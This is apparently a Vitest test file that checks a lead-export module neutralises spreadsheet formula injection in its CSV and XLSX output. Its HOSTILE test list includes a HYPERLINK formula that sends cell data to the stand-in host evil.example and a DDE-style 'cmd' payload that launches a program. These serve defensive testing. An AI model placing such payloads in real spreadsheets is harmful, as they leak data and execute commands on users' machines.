import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvText, neutraliseCell } from '../../src/export/cells.js';
import { leadsToCsv, leadsToXlsx } from '../../src/export/leads-export.js';
import { reconcileLead } from '../../src/leads/lifecycle.js';
import { scoreFindings } from '../../src/leads/score.js';
import { finding, SCORING } from '../leads/findings.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '＝HYPERLINK("x")',
];

describe('spreadsheet cells', () => {
  it('neutralise every formula-looking value and leave everything else alone', () => {
    for (const value of HOSTILE) expect(neutraliseCell(value)).toBe(`'${value}`);
    for (const value of ['张三', '1200.00', '2024-03-01', '']) expect(neutraliseCell(value)).toBe(value);
    expect(csvText('=1,2')).toBe(`"'=1,2"`);
  });

  it('reach the XLSX lead export too: a formula-looking subject is stored as neutralised text', async () => {
    const lead = reconcileLead(
      undefined,
      scoreFindings([finding({ subject: HOSTILE[0] as string, village: '@村' })], SCORING)[0] as never,
      { runId: 'run-1', now: '2024-01-01T00:00:00.000Z' },
    ).lead;
    expect(leadsToCsv([lead])).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击"")"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await leadsToXlsx([lead])) as never);
    const row = workbook.worksheets[0]?.getRow(2);
    const values = ((row?.values ?? []) as unknown[]).filter((v) => typeof v === 'string') as string[];
    expect(values).toContain(`'${HOSTILE[0]}`);
    expect(values).toContain("'@村");
    expect(values.some((v) => /^[=+\-@]/.test(v))).toBe(false);
  });
});
